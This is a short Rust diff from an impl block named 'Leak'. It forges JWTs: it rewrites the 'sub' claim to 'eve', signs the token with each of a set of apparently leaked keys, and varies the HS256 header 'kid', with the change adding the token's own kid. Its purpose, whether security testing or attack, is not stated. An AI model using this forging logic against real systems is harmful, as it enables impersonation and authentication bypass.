@@ -60,7 +60,7 @@ impl Leak {
             let token = Jwt::parse(&session.access.value).claim("sub", "eve");
             for key in &self.keys {
                 forged.push(token.sign(key));
-                for kid in ["0", "1", "2"] {
+                for kid in ["0", "1", "2", &token.kid()] {
                     let header = format!(r#"{{"alg":"HS256","typ":"JWT","kid":"{kid}"}}"#);
                     forged.push(token.clone().header(&header).sign(key));
                 }
